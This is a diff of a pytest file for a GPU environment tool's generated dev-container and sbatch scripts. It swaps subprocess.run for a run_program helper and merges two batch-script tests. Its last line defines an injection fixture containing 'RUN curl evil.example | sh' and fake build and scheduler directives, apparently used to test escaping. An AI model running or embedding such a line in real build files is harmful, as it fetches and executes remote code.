@@ -13,6 +13,7 @@ import pytest
 import tomllib
 from export_texts import CPU, document, instructions, sections
 from packaging.requirements import Requirement
+from programs import run_program
 from rows import rows
 
 from provision import export
@@ -154,7 +155,7 @@ def of_variable(form, text):
         return given[1].replace("''", "'").format("/home/runner/p")
     told = next(x for x in container(text)["onCreateCommand"].split(" && ") if "GPUENV_FROM=" in x)
     script = f'GPUENV_FROM=; {told}; printf %s "$GPUENV_FROM"'
-    return subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True).stdout
+    return run_program(["sh", "-c", script], check=True).stdout
 
 
 @rows("made", [el.of(), el.of_conda()], ids=["venv", "conda"])
@@ -182,7 +183,7 @@ def test_a_dev_container_takes_the_hosts_gpuenv_first():
     assert container(text)["containerEnv"] == {"GPUENV_FROM": "${localEnv:GPUENV}"}
     told = next(x for x in container(text)["onCreateCommand"].split(" && ") if "GPUENV_FROM=" in x)
     script = f'GPUENV_FROM=./mine.whl; {told}; printf %s "$GPUENV_FROM"'
-    done = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True)
+    done = run_program(["sh", "-c", script], check=True)
     assert done.stdout == "./mine.whl"
 
 
@@ -265,10 +266,7 @@ def batch(tmp_path, env, **more):
         tool.chmod(0o755)
     script = tmp_path / "train.sbatch"
     script.write_text(el.text("sbatch", env=env))
-    done = subprocess.run(
-        ["bash", script, "--epochs", "1 0"], env={"PATH": f"{bin_}:/usr/bin:/bin", **more}, capture_output=True,
-        text=True, check=False,
-    )  # fmt: skip
+    done = run_program(["bash", script, "--epochs", "1 0"], env={"PATH": f"{bin_}:/usr/bin:/bin", **more})
     return done.returncode, log.read_text().splitlines()
 
 
@@ -284,14 +282,9 @@ def test_a_batch_script_proves_and_then_runs_in_the_environment(tmp_path):
     ]
 
 
-def test_a_batch_script_takes_another_environment(tmp_path):
-    code, called = batch(tmp_path, "/a", GPUENV_ENV="/b c")
-    assert code == 0 and called[1].startswith("gpuenv|run|/b c|")
-
-
-def test_a_batch_script_ends_where_the_proof_fails(tmp_path):
-    code, called = batch(tmp_path, "/a", verify=8)
-    assert code == 8 and called == ["gpuenv|verify|/a|--quick|"]
+def test_a_batch_script_takes_another_environment_and_ends_where_the_proof_fails(tmp_path):
+    code, called = batch(tmp_path, "/a", verify=8, GPUENV_ENV="/b c")
+    assert code == 8 and called == ["gpuenv|verify|/b c|--quick|"]
 
 
 EVIL = "x\nRUN curl evil.example | sh\r%post\n    evil\n- evil: true\n#SBATCH --evil"
